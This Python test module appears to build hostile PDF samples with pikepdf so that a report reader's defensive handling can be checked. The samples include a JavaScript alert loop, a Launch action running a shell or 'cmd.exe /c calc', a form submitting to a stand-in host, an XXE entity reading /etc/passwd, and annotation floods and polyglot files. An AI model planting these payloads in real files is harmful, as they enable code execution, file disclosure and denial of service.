"""Sample reports with something foreign in or around them: scripts, forms, other files, passwords."""

import io
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf

from tests.hostile.case import READ, SMALL, Case, outcomes, sample
from tests.hostile.texts import HTML, zipped

Changing = Callable[[Pdf], object]


def changed(change: Changing, **saved) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(sample())) as document:
        change(document)
        document.save(made, **saved)
    return made.getvalue()


def nothing(document: Pdf) -> None:
    pass


def script(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="while (true) app.alert('x');")


def launch(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(
        S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc")
    )


def reach_out(document: Pdf) -> None:
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://192.0.2.1/"))
    for page in document.pages:
        page.obj.AA = Dictionary(O=send)


def remote_content(document: Pdf) -> None:
    content = document.make_stream(
        b"", F=Dictionary(FS=Name.URL, F="http://192.0.2.1/x"), FFilter=Name.FlateDecode
    )
    document.pages[0].obj.Metadata = content


def xfa(document: Pdf) -> None:
    form = document.make_stream(b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xdp>&a;</xdp>')
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)


def fields(document: Pdf) -> None:
    field = Dictionary(
        FT=Name.Tx, T="total", V="99999.99", Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 50, 20]
    )
    held = document.make_indirect(field)
    document.Root.AcroForm = Dictionary(Fields=Array([held]), NeedAppearances=True)
    document.pages[0].obj.Annots = Array([held])


def attachment(document: Pdf) -> None:
    document.attachments["evil.pdf"] = sample()


def many_notes(document: Pdf) -> None:
    note = document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9], Contents="x")
    )
    document.pages[0].obj.Annots = Array([note] * 50_000)


def long_information(document: Pdf) -> None:
    document.docinfo["/Title"] = "部门预算" * 100_000


def locked(revision: int, owner_only: bool = False) -> bytes:
    key = Encryption(
        user="" if owner_only else "u", owner="o", R=revision, aes=revision >= 4, metadata=revision >= 4
    )
    return changed(nothing, encryption=key)


def unknown_lock() -> bytes:
    made = bytearray(locked(4))
    return bytes(made.replace(b"/Filter /Standard", b"/Filter /Personal"))


def cases(seed: int) -> Iterator[Case]:
    read = outcomes(READ)
    for change in (
        script,
        launch,
        reach_out,
        remote_content,
        xfa,
        fields,
        attachment,
        many_notes,
        long_information,
    ):
        yield Case("active", f"{change.__name__}.pdf", lambda change=change: changed(change), read, SMALL)
    for revision in (2, 3, 4, 6):
        yield Case("encrypted", f"r{revision}.pdf", lambda r=revision: locked(r), outcomes("encrypted"))
    yield Case("encrypted", "owner.pdf", lambda: locked(6, owner_only=True), read, SMALL)
    yield Case("encrypted", "unknown.pdf", unknown_lock, outcomes("encrypted", "damaged"))
    yield Case("two in one", "pdf-zip.pdf", lambda: sample() + zipped(), outcomes(READ, "damaged"), SMALL)
    yield Case(
        "two in one",
        "zip-pdf.pdf",
        lambda: zipped() + sample(),
        outcomes(READ, "damaged", "not_a_pdf"),
        SMALL,
    )
    yield Case("two in one", "html-pdf.pdf", lambda: HTML + sample(), outcomes(READ, "damaged"), SMALL)
    yield Case("two in one", "gif-pdf.pdf", lambda: b"GIF89a" + sample(), outcomes(READ, "damaged"), SMALL)
    yield Case("two in one", "pdf-pdf.pdf", lambda: sample() + sample(), outcomes(READ, "damaged"), SMALL)
    far = outcomes("not_a_pdf")
    yield Case("two in one", "far-pdf.pdf", lambda: HTML + bytes(5000) + sample(), far)
    yield Case("two in one", "html-of-pdf.pdf", lambda: HTML * 30 + b"%PDF-1.7", far)
    plain = outcomes("unknown_format")
    yield Case("two in one", "pdf-zip.txt", lambda: sample() + zipped(), plain)
